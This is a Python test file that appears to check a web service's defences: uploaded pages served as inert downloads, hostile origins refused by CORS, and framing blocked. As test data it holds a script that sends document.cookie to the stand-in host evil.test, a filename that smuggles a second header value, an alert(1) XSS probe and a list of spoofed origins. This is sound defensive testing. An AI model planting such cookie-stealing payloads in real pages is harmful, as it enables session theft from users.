"""Pages of others, and files that would be pages: what a browser is told to do with them."""

from __future__ import annotations

import httpx
import pytest

from growqr.config import Settings
from growqr.store import Store, User
from tests.attack.house import House, house, problem
from tests.attack.things import everything
from tests.attack.walk import operations

pytestmark = pytest.mark.anyio

FRONTEND = "http://front.test:5173"
EVIL = (
    "https://evil.test", "null", f"{FRONTEND}.evil.test", "http://front.test", "file://",
    "http://evil.test:5173", f"{FRONTEND}/", FRONTEND.upper(), "https://front.test:5173", "*",
)  # fmt: skip
"""Origins of others, and some that only look like ours."""

PAGE = b"<html><script>fetch('//evil.test/?' + document.cookie)</script>"


def preflight(origin: str, method: str = "POST") -> dict[str, str]:
    return {"Origin": origin, "Access-Control-Request-Method": method,
            "Access-Control-Request-Headers": "authorization,content-type"}  # fmt: skip


def allows(answer: httpx.Response) -> set[str]:
    return {name for name in answer.headers if name.startswith("access-control-allow")}


async def test_69_a_page_that_was_uploaded(ours: House, alice: User) -> None:
    await everything(ours, alice)
    her, work = await ours.person(alice), ours.settings.workspace(alice.id)
    names = ("page.html", "image.svg", "page.xhtml", "script.js", "page", 'a";filename=x.html')
    for name in names:
        (work / name).write_bytes(PAGE)
        answer = await her.get(f"/files/{name}")
        head = answer.headers
        assert answer.content == PAGE
        assert head["content-disposition"].startswith("attachment")
        assert head["content-type"] == "application/octet-stream"
        assert head["x-content-type-options"] == "nosniff"
        assert head["content-security-policy"].startswith("default-src 'none'")
    for path in ("/memory/page.html", "/git/repos/xylograph-shop/contents/page.html"):
        assert (await her.put(path, json={"content": PAGE.decode()})).status_code == 200
        answer = await her.get(path)
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["x-content-type-options"] == "nosniff"
    problem(await her.get("/files/<script>alert(1)</script>.html"), 404)


async def test_71_a_page_of_another_origin_asks(
    settings: Settings, store: Store, alice: User
) -> None:
    front = settings.model_copy(update={"frontend_url": FRONTEND})
    async with house(front, store) as ours:
        door, her = await ours.stranger(), await ours.person(alice)
        for origin in EVIL:
            for method in ("GET", "POST", "PUT", "PATCH", "DELETE"):
                for path in ("/threads", "/users/me", "/auth/exchange", "/config", "/nothing"):
                    answer = await door.options(path, headers=preflight(origin, method))
                    assert "access-control-allow-origin" not in answer.headers, (origin, path)
            answer = await her.get("/users/me", headers={"Origin": origin})
            assert allows(answer) - {"access-control-allow-credentials"} == set(), origin
        answer = await door.options("/threads", headers=preflight(FRONTEND))
        assert answer.status_code == 200
        assert answer.headers["access-control-allow-origin"] == FRONTEND
        assert "Origin" in answer.headers["vary"]
        answer = await her.get("/users/me", headers={"Origin": FRONTEND})
        assert answer.headers["access-control-allow-origin"] == FRONTEND
        assert "Origin" in answer.headers["vary"]


async def test_71_twin_without_another_address_nobody_is_allowed(ours: House, alice: User) -> None:
    door, her = await ours.stranger(), await ours.person(alice)
    for origin in (*EVIL, FRONTEND, ours.urls[0]):
        answer = await door.options("/threads", headers=preflight(origin))
        assert allows(answer) == set()
        assert answer.status_code == 405
        assert allows(await her.get("/users/me", headers={"Origin": origin})) == set()
    assert (await her.get("/users/me")).status_code == 200  # the same site asks nobody


async def test_73_nobody_frames_our_pages(ours: House, alice: User) -> None:
    her, door = await ours.person(alice), await ours.stranger()
    seen = []
    for one in operations(ours.apps[0]):
        if one.method == "GET" and not one.ids:
            query = {"q": "x"} if "search" in one.path else {}
            seen.append(await her.get(f"{ours.urls[0]}{one.path}", params=query))
            seen.append(await door.get(f"{ours.urls[0]}{one.path}"))
    for path in ("/docs", "/redoc", "/openapi.json", "/nothing", "/", "/app"):
        seen.append(await door.get(f"{ours.urls[0]}{path}"))
    async with her.stream("GET", "/actors/me/events") as answer:
        seen.append(answer)
    assert len({answer.status_code for answer in seen}) > 2
    for answer in seen:
        head = answer.headers
        assert head["x-frame-options"] == "DENY", answer.url
        assert "frame-ancestors 'none'" in head["content-security-policy"], answer.url
        assert head["x-content-type-options"] == "nosniff"
        assert head["referrer-policy"] == "no-referrer"
    assert any("script-src 'self'" in answer.headers["content-security-policy"] for answer in seen)
